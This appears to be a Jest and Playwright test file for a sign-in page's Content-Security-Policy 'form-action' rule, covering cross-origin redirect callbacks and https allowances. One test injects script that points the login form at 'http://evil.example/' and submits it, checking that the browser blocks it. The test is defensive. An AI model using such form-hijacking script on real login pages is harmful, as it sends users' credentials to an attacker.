import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { Browser } from 'playwright-core';
import { openBrowser } from '../support/chromium.js';
import { loginPath } from '../support/hosted-page.js';
import { startListeningApp } from '../support/listening-app.js';
import { startTestApp, type TestApp } from '../support/test-app.js';
import { World } from '../support/world.js';

/** Chromium holds `form-action` against every hop after a form, those of the app included. */
describe('The policy of the sign-in page', () => {
  let service: TestApp;
  let world: World;
  let browser: Browser;

  beforeAll(async () => {
    [service, browser] = await Promise.all([startTestApp(), openBrowser()]);
    world = await World.open(service.baseUrl, service.settings.databaseUrl!);
  });

  afterAll(async () => {
    await browser.close();
    await world.close();
    await service.close();
  });

  it('does not stop an app whose callback leads on to a second origin', async () => {
    const front = await startListeningApp();
    const back = await startListeningApp(`${front.origin.replace('127.0.0.1', 'localhost')}/home`);
    try {
      const { redirectUri } = back;
      const tenant = await world.tenant();
      const app = { ...(await world.app(tenant, { config: { redirect_uris: [redirectUri] } })), redirectUri };
      const person = await world.person(app);
      const page = await browser.newPage();
      await page.goto(`${service.baseUrl}${loginPath(app)}`);
      await page.fill('#email', person.email);
      await page.fill('#password', person.password);
      await page.click('button.wide');
      await page.waitForURL(/^http:\/\/localhost:\d+\/home$/);
      expect(await page.locator('body').innerText()).toBe('called with /home');
    } finally {
      await Promise.all([front.close(), back.close()]);
    }
  });

  it('allows every https host to an app on https', async () => {
    const app = await world.app(await world.tenant());
    const page = await browser.newPage();
    const answer = await page.goto(`${service.baseUrl}${loginPath(app)}`);
    expect(answer?.headers()['content-security-policy']).toContain("form-action 'self' https:;");
  });

  it('still stops a form that leads to somewhere else at once', async () => {
    const app = await world.app(await world.tenant());
    const page = await browser.newPage();
    const complaint = page.waitForEvent('console', (message) => message.text().includes('form-action'));
    await page.goto(`${service.baseUrl}${loginPath(app)}`);
    await page.evaluate(`
      document.forms[0].action = 'http://evil.example/';
      document.forms[0].submit();
    `);
    expect((await complaint).text()).toContain('evil.example');
    expect(page.url().startsWith(service.baseUrl)).toBe(true);
  });
});
